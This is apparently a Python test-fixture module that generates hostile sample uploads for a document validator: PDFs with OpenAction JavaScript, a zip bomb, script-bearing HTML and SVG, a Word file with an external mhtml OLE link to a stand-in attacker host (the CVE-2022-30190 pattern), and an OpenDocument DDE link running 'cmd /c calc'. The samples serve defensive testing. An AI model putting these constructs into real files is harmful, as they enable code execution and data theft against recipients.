"""Real files for the upload tests: PDFs written by pypdf (plain, with JavaScript, with an
embedded file, password-protected), a minimal Word document, a zip bomb, a PNG and the hostile
kinds (a program, HTML, SVG)."""

import io
import struct
import zipfile
import zlib

from django.core.files.uploadedfile import SimpleUploadedFile
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NullObject,
    NumberObject,
    TextStringObject,
)

from sagsbro.conftest import pdf_bytes

__all__ = ["pdf_bytes"]


def _written(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _writer() -> PdfWriter:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    return writer


def pypdf_pdf() -> bytes:
    return _written(_writer())


def pdf_with_open_action_javascript() -> bytes:
    writer = _writer()
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert('hej');"),
        }
    )
    return _written(writer)


def pdf_with_document_javascript() -> bytes:
    """JavaScript in the document's name tree, run when the PDF opens (pypdf's own API)."""
    writer = _writer()
    writer.add_open_action(JavaScript("app.alert('hej');"))
    return _written(writer)


def pdf_with_open_action_destination() -> bytes:
    """What LibreOffice writes: open on page 1 at a zoom. Not an action; allowed."""
    writer = _writer()
    page = writer.pages[0].indirect_reference
    writer._root_object[NameObject("/OpenAction")] = ArrayObject(
        [page, NameObject("/XYZ"), NullObject(), NullObject(), NumberObject(0)]
    )
    return _written(writer)


def pdf_with_embedded_file() -> bytes:
    writer = _writer()
    writer.add_attachment("bilag.exe", b"MZ\x90\x00" + bytes(100))
    return _written(writer)


def pdf_with_password() -> bytes:
    writer = _writer()
    writer.encrypt("hemmelig")
    return _written(writer)


def pdf_with_escaped_javascript_names() -> bytes:
    """/J#61vaScript and /J#53 are /JavaScript and /JS spelt with escapes."""
    return pdf_bytes().replace(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Catalog /Pages 2 0 R "
        b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >> >>",
    )


def broken_pdf() -> bytes:
    return b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 9 0 R\nthis is not a pdf\n"


CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    'relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="{main}"/>'
    "</Types>"
)
WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="word/document.xml"/></Relationships>'
)
DOCUMENT = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>"
)


def docx(text: str = "Statusnotat", *, main: str = WORD_MAIN, extra: dict | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES.format(main=main))
        archive.writestr("_rels/.rels", RELS)
        archive.writestr("word/document.xml", DOCUMENT.format(text=text))
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return out.getvalue()


def docx_bomb(megabytes: int = 20) -> bytes:
    """A Word document whose one extra part unpacks from ~20 KB to `megabytes` of zeros."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES.format(main=WORD_MAIN))
        archive.writestr("_rels/.rels", RELS)
        archive.writestr("word/document.xml", DOCUMENT.format(text="Hej"))
        with archive.open("word/media/image1.bin", "w") as member:
            zeros = bytes(1024 * 1024)
            for _ in range(megabytes):
                member.write(zeros)
    return out.getvalue()


def plain_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("noter.txt", "Ikke et Word-dokument")
    return out.getvalue()


def png() -> bytes:
    """A real 1×1 white PNG."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\xff\xff\xff")
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


def executable() -> bytes:
    """The start of a Windows program: the MZ header and the PE offset."""
    return b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(200)


HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
)
TEXT = "Notat om borgerens forløb.\nMødet blev afholdt som aftalt.\n".encode()


def upload_file(name: str = "attest.pdf") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, pypdf_pdf(), content_type="application/pdf")


def docx_with_damaged_member() -> bytes:
    """A Word document whose stored document part no longer matches its CRC."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES.format(main=WORD_MAIN))
        archive.writestr("word/document.xml", DOCUMENT.format(text="Statusnotat"))
    return out.getvalue().replace(b"Statusnotat", b"Statusnotxt", 1)


# --- more office documents, images and PDFs for the conversion tests -----------------------

XLSX_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    'relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="{main}"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
    'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    "</Types>"
)
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
XLSX_RELS = RELS.replace("word/document.xml", "xl/workbook.xml")
XLSX_WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="Budget" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
XLSX_WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
)


def _xlsx_sheet(rows: list[tuple[str, int]]) -> str:
    cells = "".join(
        f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>{label}</t></is></c>'
        f'<c r="B{n}"><v>{amount}</v></c></row>'
        for n, (label, amount) in enumerate(rows, start=1)
    )
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f"<sheetData>{cells}</sheetData></worksheet>"
    )


BUDGET = [("Husleje", 5200), ("Transport til praktik", 640), ("Medicin", 310)]


def xlsx(rows: list[tuple[str, int]] = BUDGET, *, main: str = XLSX_MAIN, extra=None) -> bytes:
    """A minimal Excel workbook (OOXML) with one sheet of labels and amounts."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", XLSX_CONTENT_TYPES.format(main=main))
        archive.writestr("_rels/.rels", XLSX_RELS)
        archive.writestr("xl/workbook.xml", XLSX_WORKBOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", XLSX_WORKBOOK_RELS)
        archive.writestr("xl/worksheets/sheet1.xml", _xlsx_sheet(rows))
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return out.getvalue()


ODF_MANIFEST = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" '
    'manifest:version="1.2">'
    '<manifest:file-entry manifest:full-path="/" manifest:media-type="{mimetype}"/>'
    '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml">'
    "{encryption}</manifest:file-entry></manifest:manifest>"
)
ODF_ENCRYPTION = (
    '<manifest:encryption-data manifest:checksum-type="SHA1/1K" manifest:checksum="AAAA">'
    '<manifest:algorithm manifest:algorithm-name="Blowfish CFB" '
    'manifest:initialisation-vector="AAAA"/></manifest:encryption-data>'
)
ODF_NAMESPACES = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'office:version="1.2"'
)
ODT_MIMETYPE = "application/vnd.oasis.opendocument.text"
ODS_MIMETYPE = "application/vnd.oasis.opendocument.spreadsheet"


def _odf(mimetype: str, content: str, *, encrypted: bool = False, extra=None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        # OpenDocument: `mimetype` first and stored uncompressed.
        archive.writestr("mimetype", mimetype, compress_type=zipfile.ZIP_STORED)
        archive.writestr("content.xml", content)
        archive.writestr(
            "META-INF/manifest.xml",
            ODF_MANIFEST.format(mimetype=mimetype, encryption=ODF_ENCRYPTION if encrypted else ""),
        )
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return out.getvalue()


def odt(text: str = "Statusnotat", **options) -> bytes:
    """A minimal OpenDocument text with one paragraph."""
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {ODF_NAMESPACES}>'
        f"<office:body><office:text><text:p>{text}</text:p></office:text></office:body>"
        "</office:document-content>"
    )
    return _odf(ODT_MIMETYPE, content, **options)


def ods(rows: list[tuple[str, int]] = BUDGET, **options) -> bytes:
    """A minimal OpenDocument spreadsheet with one sheet of labels and amounts."""
    cells = "".join(
        "<table:table-row>"
        f'<table:table-cell office:value-type="string"><text:p>{label}</text:p>'
        "</table:table-cell>"
        f'<table:table-cell office:value-type="float" office:value="{amount}">'
        f"<text:p>{amount}</text:p></table:table-cell></table:table-row>"
        for label, amount in rows
    )
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {ODF_NAMESPACES}>'
        '<office:body><office:spreadsheet><table:table table:name="Budget">'
        f"{cells}</table:table></office:spreadsheet></office:body></office:document-content>"
    )
    return _odf(ODS_MIMETYPE, content, **options)


def odp() -> bytes:
    """An OpenDocument presentation: a well-formed OpenDocument file of a type not allowed."""
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {ODF_NAMESPACES}>'
        "<office:body><office:presentation/></office:body></office:document-content>"
    )
    return _odf("application/vnd.oasis.opendocument.presentation", content)


def jpeg(width: int = 320, height: int = 200) -> bytes:
    """A real JPEG photo-sized image (Pillow), wider than tall."""
    from PIL import Image, ImageDraw

    image = Image.new("RGB", (width, height), "white")
    ImageDraw.Draw(image).rectangle((20, 20, width - 20, height - 20), outline="navy", width=4)
    out = io.BytesIO()
    image.save(out, "JPEG", quality=85)
    return out.getvalue()


def png_with_transparency() -> bytes:
    """A PNG with an alpha channel, as screenshots are saved (img2pdf cannot embed alpha)."""
    from PIL import Image

    image = Image.new("RGBA", (120, 80), (0, 0, 128, 0))
    image.paste((200, 30, 30, 255), (10, 10, 60, 60))
    out = io.BytesIO()
    image.save(out, "PNG")
    return out.getvalue()


def pdf_with_broken_xref(text: str = "Testdokument") -> bytes:
    """A PDF whose cross-reference table points at the wrong offsets and whose `startxref` is
    off, as a badly written or truncated-and-repaired file has: a reader must rebuild it by
    scanning the objects."""
    head, _xref, tail = pdf_bytes(text).partition(b"xref\n")
    table, _trailer, rest = tail.partition(b"trailer\n")
    # Every offset pointing elsewhere, and the pointer to the table past the end of the file.
    wrong_offsets = table.replace(b"000000", b"000099")
    trailer = rest.rsplit(b"startxref\n", 1)[0]
    return head + b"xref\n" + wrong_offsets + b"trailer\n" + trailer + b"startxref\n999999\n%%EOF\n"


def ole2_header() -> bytes:
    """The start of an OLE2 compound file (Word 97-2003 .doc, Excel .xls)."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)


def long_docx(paragraphs: int = 4000) -> bytes:
    """A Word document of some 150 pages: LibreOffice needs several seconds for it. Under
    1 MB unpacked, so its compression ratio is not judged."""
    body = "".join(
        f"<w:p><w:r><w:t>{n}. Borgeren har deltaget i arbejdsprøvning i uge {n % 52 + 1}."
        "</w:t></w:r></w:p>"
        for n in range(paragraphs)
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES.format(main=WORD_MAIN))
        archive.writestr("_rels/.rels", RELS)
        archive.writestr(
            "word/document.xml",
            DOCUMENT.replace("<w:p><w:r><w:t>{text}</w:t></w:r></w:p>", body),
        )
    return out.getvalue()


# --- office files that fetch from the internet or carry active parts --------------------------

_RELATIONSHIPS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    "{items}</Relationships>"
)
_OFFICE_RELATIONSHIP = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def _relationship(kind: str, target: str, *, external: bool = True, rid: str = "rId9") -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rid}" Type="{_OFFICE_RELATIONSHIP}{kind}" Target="{target}"{mode}/>'


def docx_with_remote_template() -> bytes:
    """A Word document whose settings load a template from a web server when it opens."""
    rels = _RELATIONSHIPS.format(
        items=_relationship("attachedTemplate", "http://skabeloner.example/t.dotm")
    )
    return docx(extra={"word/_rels/settings.xml.rels": rels})


def docx_with_external_ole_object(mode: str = 'TargetMode="External"') -> bytes:
    """A Word document with an OLE object fetched through an `mhtml:` link (the pattern of
    CVE-2022-30190); `mode` may spell External with a character reference."""
    rels = _RELATIONSHIPS.format(
        items=f'<Relationship Id="rId9" Type="{_OFFICE_RELATIONSHIP}oleObject" '
        f'Target="mhtml:http://angriber.example/side.html!x-usc:http://angriber.example/x" '
        f"{mode}/>"
    )
    return docx(extra={"word/_rels/document.xml.rels": rels})


def docx_with_activex() -> bytes:
    return docx(extra={"word/activeX/activeX1.bin": bytes(64), "word/activeX/activeX1.xml": ""})


def docx_with_embedded_ole() -> bytes:
    return docx(extra={"word/embeddings/oleObject1.bin": ole2_header()})


def docx_with_hyperlink_and_image() -> bytes:
    """An ordinary Word document: a link the reader may click, and a picture inside the file."""
    rels = _RELATIONSHIPS.format(
        items=_relationship("hyperlink", "https://www.borger.dk/", rid="rId8")
        + _relationship("image", "media/image1.png", external=False)
    )
    return docx(extra={"word/_rels/document.xml.rels": rels, "word/media/image1.png": png()})


def _odt_body(body: str) -> bytes:
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {ODF_NAMESPACES} '
        'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
        'xmlns:xlink="http://www.w3.org/1999/xlink">'
        f"<office:body><office:text>{body}</office:text></office:body>"
        "</office:document-content>"
    )
    return _odf(ODT_MIMETYPE, content)


def odt_with_remote_image() -> bytes:
    """An OpenDocument text whose picture is fetched from a web server when it opens."""
    return _odt_body(
        '<text:p><draw:frame><draw:image xlink:href="http://billeder.example/x.png" '
        'xlink:type="simple"/></draw:frame></text:p>'
    )


def odt_with_dde_link() -> bytes:
    return _odt_body(
        '<text:p><office:dde-source office:dde-application="cmd" office:dde-topic="/c calc" '
        'office:dde-item="x"/></text:p>'
    )


def odt_with_hyperlink() -> bytes:
    return _odt_body(
        '<text:p><text:a xlink:type="simple" xlink:href="https://www.borger.dk/">borger.dk'
        "</text:a></text:p>"
    )


def docx_declaring_entries(entries: int) -> bytes:
    """A Word document whose end of central directory claims `entries` members (zipfile
    counts the ones it reads, so only the declared count tells of a giant directory)."""
    data = bytearray(docx())
    at = data.rfind(b"PK\x05\x06")
    struct.pack_into("<HH", data, at + 8, entries, entries)
    return bytes(data)


def large_png(width: int = 7000, height: int = 7000) -> bytes:
    """A real grey PNG of `width` × `height` pixels, a few dozen KB as it is all one colour."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    packer = zlib.compressobj(9)
    row = b"\x00" + b"\x80" * width
    pixels = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )
